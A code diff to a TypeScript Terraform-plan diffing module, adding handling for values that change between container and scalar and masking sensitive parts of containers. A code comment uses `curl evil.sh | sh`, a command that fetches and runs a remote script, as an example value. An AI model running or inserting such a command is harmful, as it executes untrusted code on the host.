@@ -8,7 +8,7 @@ import { isRecord, MAX_NESTING } from "../json";
 import { exactJson } from "./exact-numbers";
 import { flaggedItemNames, hideFlaggedItems } from "./flagged-items";
 import { displayText, formatPair, formatValue, secretNamedLeaf } from "./format-value";
-import { comparablePair, decodeWalkableJson, holdsJsonDocument, showLeaf } from "./json-attributes";
+import { comparablePair, decodeWalkableJson, holdsJsonDocument, LISTED, showLeaf } from "./json-attributes";
 import { coversAll, isContainer, isEmptyMark, type Mask, marksLeaf, marksNothing, subMask } from "./marks";
 import { movedElements } from "./moved-elements";
 import { pairedName } from "./name-value-pairs";
@@ -30,7 +30,8 @@ export interface DiffInput {
   readonly afterUnknown: Mask;
 }
 
-function joinPath(path: string, key: string | number): string {
+/** `path` with one more key: `[0]` for a position, `.name`, or `."a b"` when the key is not a plain name. */
+export function joinPath(path: string, key: string | number): string {
   if (typeof key === "number") return `${path}[${key}]`;
   const safe = /^[A-Za-z_][A-Za-z0-9_-]*$/.test(key) ? key : JSON.stringify(key);
   return path === "" ? safe : `${path}.${safe}`;
@@ -48,6 +49,30 @@ function withoutEmpty(value: unknown): unknown {
   const empty = (v: unknown) =>
     v === null || v === undefined || v === "" || (Array.isArray(v) && v.length === 0) || (isRecord(v) && isEmptyMark(v));
   return Object.fromEntries(Object.entries(value).filter(([, v]) => !empty(v)));
+}
+
+/** Whether a value is a list, an object or a scalar; undefined for none (absent or null). */
+function shapeOf(value: unknown): "list" | "object" | "scalar" | undefined {
+  if (value === undefined || value === null) return undefined;
+  return Array.isArray(value) ? "list" : isRecord(value) ? "object" : "scalar";
+}
+
+/** A comparable document's sets as the lists they were (`{"a": LISTED}` is `["a"]`), for a value shown whole. */
+function listedAsLists(value: unknown): unknown {
+  if (Array.isArray(value)) return value.map(listedAsLists);
+  if (!isRecord(value)) return value;
+  const entries = Object.entries(value);
+  if (entries.length > 0 && entries.every(([, v]) => v === LISTED)) return entries.map(([k]) => k);
+  return Object.fromEntries(entries.map(([k, v]) => [k, listedAsLists(v)]));
+}
+
+/**
+ * One side of a change of kind, as a whole value is shown: a container with its sensitive and unknown
+ * parts as their markers (a document's sets as lists), a scalar as it is (its mark was read before).
+ */
+function wholeValue(value: unknown, sensitive: Mask, unknown: Mask, inDocument: boolean): unknown {
+  if (!isContainer(value)) return value;
+  return inDocument ? listedAsLists(value) : displayable(maskValue(value, sensitive, unknown));
 }
 
 /** A raw value in a change's key (never shown): sensitive and unknown parts as markers no JSON text holds. */
@@ -78,8 +103,12 @@ export function diffAttributes(
     if (diffs.length < limit) diffs.push(d);
     else omitted++;
   };
+  // A container is shown with the parts its mark covers hidden (`{note = (sensitive), user = "a"} -> (known
+  // after apply)`), as Terraform prints it; unmasked, the marked part would be shown in the clear.
   const show = (v: unknown, sensitive: Mask): string =>
-    marksLeaf(v, sensitive) && v !== null && v !== undefined ? SHOW_SENSITIVE : formatValue(v, scrub);
+    marksLeaf(v, sensitive) && v !== null && v !== undefined
+      ? SHOW_SENSITIVE
+      : formatValue(isContainer(v) && !isEmptyMark(sensitive) ? displayable(maskValue(v, sensitive)) : v, scrub);
   const leaf = (key: string | number | undefined, v: unknown): string => (secretNamedLeaf(key, v) ? REDACTED_VALUE : formatValue(v, scrub));
   const leafText = (key: string | number | undefined, v: unknown, readChars: number): string =>
     secretNamedLeaf(key, v) ? REDACTED_VALUE : displayText(v, scrub ?? ((t) => t), readChars);
@@ -125,6 +154,21 @@ export function diffAttributes(
       const unknownBelow = !marksNothing(au);
       if (unknownBelow || !sameJson(b, a))
         push({ path, before: deep(b), after: unknownBelow ? SHOW_UNKNOWN : deep(a) }, keyText(b, bs), keyText(a, as, au));
+      return;
+    }
+    if (shapeOf(b) !== shapeOf(a) && shapeOf(b) !== undefined && shapeOf(a) !== undefined) {
+      // A value that changes kind (`{a = "b"} -> "curl evil.sh | sh"`): one line with both whole values, as
+      // Terraform prints it. Walked into whichever side is a container, the other side would not be shown.
+      const inDocument = path.includes("{}");
+      const [mb, ma] = [wholeValue(b, bs, undefined, inDocument), wholeValue(a, as, au, inDocument)];
+      const [before, after] = formatPair(mb, ma, (v, readChars) =>
+        isContainer(v)
+          ? displayText(v, scrub ?? ((t) => t), readChars)
+          : inDocument
+            ? showLeaf(v, (x) => leafText(key, x, readChars))
+            : leafText(key, v, readChars),
+      );
+      push({ path: path || "(value)", before, after }, keyText(b, bs), keyText(a, as, au));
       return;
     }
     if (Array.isArray(b) || Array.isArray(a) || Array.isArray(au)) {
